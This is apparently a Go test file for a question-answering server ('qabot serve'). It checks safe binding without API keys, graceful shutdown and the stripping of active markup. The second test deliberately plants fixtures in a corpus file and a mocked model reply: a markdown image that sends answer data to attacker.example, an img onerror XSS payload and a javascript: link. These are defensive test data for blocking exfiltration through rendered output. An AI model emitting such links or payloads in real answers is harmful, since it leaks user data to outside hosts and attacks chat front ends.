package main

import (
	"context"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	openai "github.com/sashabaranov/go-openai"
)

// qabot serve refuses to serve other machines without API keys, serves
// loopback, and on SIGTERM lets the answer in flight finish.
func TestServeCommand(t *testing.T) {
	data := setup(t)
	t.Setenv("QABOT_SERVE_LISTEN", "0.0.0.0:0")
	if r := qabot(t, data, "", "serve"); r.code != exitUsage || !strings.Contains(r.stderr, "serve.api_keys") {
		t.Errorf("serving all addresses without keys: exit %d %s", r.code, r.stderr)
	}
	l, _ := net.Listen("tcp", "127.0.0.1:0")
	addr := l.Addr().String()
	l.Close()
	t.Setenv("QABOT_SERVE_LISTEN", addr)
	release := make(chan struct{})
	withLLM(t, func(openai.ChatCompletionRequest) string {
		<-release // an answer that takes until the server is told to stop
		return "生产线全长400米[1]。"
	})
	ctx, stop := context.WithCancel(t.Context())
	exited, errOut := startServe(ctx, t, addr)
	answered := make(chan string, 1)
	go func() {
		resp, err := http.Post("http://"+addr+"/v1/ask", "application/json", strings.NewReader(`{"question":"晋能光伏的TOPCon电池生产线有多长?"}`))
		if err != nil {
			answered <- err.Error()
			return
		}
		raw, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		answered <- string(raw)
	}()
	time.Sleep(200 * time.Millisecond) // the question is being answered
	stop()
	time.Sleep(100 * time.Millisecond)
	close(release)
	if got := <-answered; !strings.Contains(got, "400米[1]") {
		t.Errorf("the answer in flight: %s", got)
	}
	if code := <-exited; code != 0 {
		t.Errorf("exit %d: %s", code, errOut)
	}
	if log := errOut.String(); !strings.Contains(log, "loopback only") || strings.Contains(log, secretKey) {
		t.Errorf("log: %s", log)
	}
}

// startServe runs qabot serve on addr until ctx is done, and waits until
// it answers; its exit status comes on the channel.
func startServe(ctx context.Context, t *testing.T, addr string) (<-chan int, *strings.Builder) {
	t.Helper()
	var out, errOut strings.Builder
	exited := make(chan int, 1)
	go func() { exited <- run(ctx, []string{"serve"}, strings.NewReader(""), &out, &errOut) }()
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if resp, err := http.Get("http://" + addr + "/healthz"); err == nil {
			resp.Body.Close()
			return exited, &errOut
		}
		if time.Now().After(deadline) {
			t.Fatalf("serve did not start: %s", errOut.String())
		}
	}
}

// freeAddress is a loopback address with a free port.
func freeAddress(t *testing.T) string {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return l.Addr().String()
}

// Answers served over HTTP carry no markup a chat front end would act on:
// not the model's image that carries data to another host, nor a
// document's raw HTML, in any endpoint, streamed or not.
func TestServeMarkupInert(t *testing.T) {
	data := setup(t)
	corpus := t.TempDir()
	os.WriteFile(filepath.Join(corpus, "cake.txt"), []byte("太谷饼产业报道\n2026年，太谷饼产业年产量达到3700吨。<img src=\"http://attacker.example/doc.png\"><a href=\"javascript:alert(1)\">详情</a>"), 0o644)
	if r := qabot(t, data, "", "ingest", corpus); r.code != 0 {
		t.Fatalf("ingest: %d %s", r.code, r.stderr)
	}
	withLLM(t, func(openai.ChatCompletionRequest) string {
		return "太谷饼年产量3700吨[1]。![图](http://attacker.example/log?q=3700)<img src=x onerror=alert(1)>"
	})
	addr := freeAddress(t)
	t.Setenv("QABOT_SERVE_LISTEN", addr)
	ctx, stop := context.WithCancel(t.Context())
	defer stop()
	startServe(ctx, t, addr)
	for _, req := range []struct{ path, body string }{
		{"/v1/ask", `{"question":"太谷饼年产量是多少?"}`},
		{"/v1/chat/completions", `{"model":"default","messages":[{"role":"user","content":"太谷饼年产量是多少?"}]}`},
		{"/v1/chat/completions", `{"model":"default","stream":true,"messages":[{"role":"user","content":"太谷饼年产量是多少?"}]}`},
	} {
		resp, err := http.Post("http://"+addr+req.path, "application/json", strings.NewReader(req.body))
		if err != nil {
			t.Fatal(err)
		}
		raw, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		body := strings.ReplaceAll(string(raw), `\u003c`, "<")
		if resp.StatusCode != 200 || !strings.Contains(body, "3700") {
			t.Fatalf("%s: HTTP %d %s", req.path, resp.StatusCode, body)
		}
		for _, active := range []string{"![", "<img", "<a ", "](http://attacker", "javascript:alert"} {
			if strings.Contains(body, active) {
				t.Errorf("%s %s: %q served: %s", req.path, req.body, active, body)
			}
		}
	}
}
